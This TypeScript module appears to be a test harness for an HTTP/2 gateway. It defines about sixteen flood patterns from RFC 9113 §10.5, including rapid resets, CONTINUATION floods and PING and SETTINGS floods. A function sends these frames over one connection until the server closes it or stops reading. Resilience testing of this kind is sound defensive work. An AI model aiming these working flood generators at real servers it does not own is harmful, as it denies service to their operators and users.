/** Floods of HTTP/2: frames that cost a client nothing, sent again and again on one connection (RFC 9113 §10.5). */
import * as F from './frames.js'

export interface Flood {
  /** Sent once. */
  readonly first?: Buffer
  /** Sent again and again; `i` from 0. */
  frame(i: number): Buffer
  /** Frames in each write. Default 200. */
  readonly atOnce?: number
}

/** The path of all requests of a flood. */
export const FLOOD_PATH = '/flood'

const pairs = (method: string): (readonly [string, string])[] => [
  [':method', method],
  [':path', FLOOD_PATH],
  ...F.GET.filter(([name]) => name === ':scheme' || name === ':authority'),
]
const get = F.fields(...pairs('GET'))
const request = (stream: number): Buffer => F.frame(F.HEADERS, F.END_STREAM | F.END_HEADERS, stream, get)
/** Its body is still to come. */
const post = F.frame(F.HEADERS, F.END_HEADERS, 1, F.fields(...pairs('POST')))
const reset = (stream: number): Buffer => F.frame(F.RST_STREAM, 0, stream, F.number32(8))
const cancelled = (i: number): Buffer => Buffer.concat([request(2 * i + 1), reset(2 * i + 1)])
const priority = Buffer.concat([F.number32(0), Buffer.from([5])])
const padded = Buffer.concat([Buffer.from([200]), Buffer.alloc(200)])
const PADDED = 8
const UNKNOWN = 99

/** Sends the same frame each time. */
const same = (frame: Buffer, first?: Buffer): Flood => ({ frame: () => frame, ...(first && { first }) })

export const FLOODS: Readonly<Record<string, Flood>> = {
  streams: { frame: (i) => request(2 * i + 1) },
  'rapid resets': { frame: cancelled },
  'rapid resets, a few at a time': { frame: cancelled, atOnce: 10 },
  'resets of no stream': { frame: (i) => reset(2 * i + 1) },
  CONTINUATION: {
    first: F.frame(F.HEADERS, F.END_STREAM, 1, get),
    frame: () => F.frame(F.CONTINUATION, 0, 1, F.fields(['x', 'y'.repeat(100)])),
  },
  'empty CONTINUATION': same(F.frame(F.CONTINUATION, 0, 1), F.frame(F.HEADERS, F.END_STREAM, 1, get)),
  SETTINGS: same(F.frame(F.SETTINGS, 0, 0, F.setting(3, 100))),
  'SETTINGS that change the size of the window': {
    first: post,
    frame: (i) => F.frame(F.SETTINGS, 0, 0, F.setting(4, 65_535 + (i % 2))),
  },
  PING: same(F.frame(F.PING, 0, 0, Buffer.alloc(8))),
  'answers to no PING': same(F.frame(F.PING, F.ACK, 0, Buffer.alloc(8))),
  'empty DATA': same(F.frame(F.DATA, 0, 1), post),
  'DATA that is padding': same(F.frame(F.DATA, PADDED, 1, padded), post),
  'WINDOW_UPDATE of the connection': same(F.frame(F.WINDOW_UPDATE, 0, 0, F.number32(1)), post),
  'WINDOW_UPDATE of a stream': same(F.frame(F.WINDOW_UPDATE, 0, 1, F.number32(1)), post),
  PRIORITY: { frame: (i) => F.frame(F.PRIORITY, 0, 2 * i + 1, priority) },
  'frames of an unknown type': same(F.frame(UNKNOWN, 0, 0, Buffer.alloc(100)), post),
}

export interface Flooded {
  readonly sent: number
  /** The gateway has closed the connection, or reads it no more, as node:http2 does after too many resets. */
  readonly isOver: boolean
  /** Of GOAWAY; undefined if it did not arrive before the reset of the connection. */
  readonly code: number | undefined
}

const AT_ONCE = 200
const UNREAD_MS = 2_000

/** Resolves with true when more can be sent or the connection has ended, with false if nothing is read. */
const roomIn = ({ socket }: F.Frames): Promise<boolean> =>
  new Promise((resolve) => {
    const go = (): void => {
      clearTimeout(timer)
      for (const event of ['drain', 'close']) socket.off(event, go)
      resolve(true)
    }
    const timer = setTimeout(() => resolve(false), UNREAD_MS)
    for (const event of ['drain', 'close']) socket.once(event, go)
  })

/** Floods one connection until the gateway closes it or reads it no more, for at most `mostMs`. */
export async function flood(port: number, { first, frame, atOnce = AT_ONCE }: Flood, mostMs: number): Promise<Flooded> {
  const flooding = new F.Frames(port)
  if (first) flooding.send(first)
  const end = performance.now() + mostMs
  let sent = 0
  let isRead = true
  while (isRead && !flooding.isClosed && performance.now() < end) {
    const frames = Array.from({ length: atOnce }, (_, i) => frame(sent + i))
    const hasRoom = flooding.send(...frames)
    sent += atOnce
    if (hasRoom) await new Promise(setImmediate)
    else if (!flooding.isClosed) isRead = await roomIn(flooding)
  }
  const { isClosed, received } = flooding
  flooding.socket.destroy()
  const goaway = received.find(({ type }) => type === F.GOAWAY)
  return { sent, isOver: isClosed || !isRead, code: goaway?.payload.readUInt32BE(4) }
}
